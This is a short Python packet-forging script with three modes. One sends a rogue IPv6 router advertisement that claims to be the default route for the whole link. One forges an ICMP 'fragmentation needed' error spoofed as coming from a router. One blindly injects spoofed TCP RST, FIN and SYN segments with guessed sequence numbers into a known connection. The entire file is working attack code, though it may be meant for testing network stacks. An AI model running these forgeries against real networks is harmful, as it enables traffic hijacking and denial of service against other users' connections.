#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""forge.py router INTERFACE | error FROM SERVICE PORT CLIENT CPORT
            | guess CLIENT CPORT SERVICE PORT

router: announces a default route to all on the link (RFC 4861, 4.2).
error: tells SERVICE (IPv4), as a router that has FROM on this host, that what it has sent to
CLIENT:CPORT from PORT was too big: "fragmentation needed", 1400 (RFC 1191).
guess: as somebody who knows a connection's addresses and ports, but no numbers: 32 each of RST, RST
with ACK, FIN with ACK and SYN (IPv4)."""
import ipaddress
import random
import socket
import struct
import sys

FIN, SYN, RST, ACK = 1, 2, 4, 16


def router(interface):
    sock = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
    index = socket.if_nametoindex(interface)
    sock.sendto(struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0), ("ff02::1", 0, 0, index))


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def error(source, service, port, client, cport):
    address = [ipaddress.ip_address(a).packed for a in (service, client)]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 1500, 1, 0x4000, 64, socket.IPPROTO_TCP, 0, *address)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    inner = ip + struct.pack("!HHI", int(port), int(cport), 1)
    icmp = struct.pack("!BBHHH", 3, 4, 0, 0, 1400) + inner
    icmp = icmp[:2] + struct.pack("!H", checksum(icmp)) + icmp[4:]
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    sock.bind((source, 0))
    sock.sendto(icmp, (service, 0))


def guess(client, cport, service, port):
    address = [ipaddress.ip_address(a).packed for a in (client, service)]
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0, *address)
    pseudo = struct.pack("!4s4sHH", *address, socket.IPPROTO_TCP, 20)
    for flags in (RST, RST | ACK, FIN | ACK, SYN) * 32:
        numbers = random.getrandbits(32), random.getrandbits(32) if flags & ACK else 0
        tcp = struct.pack("!HHIIBBHHH", int(cport), int(port), *numbers, 5 << 4, flags, 512, 0, 0)
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        sock.sendto(ip + tcp, (service, 0))


{"router": router, "error": error, "guess": guess}[sys.argv[1]](*sys.argv[2:])
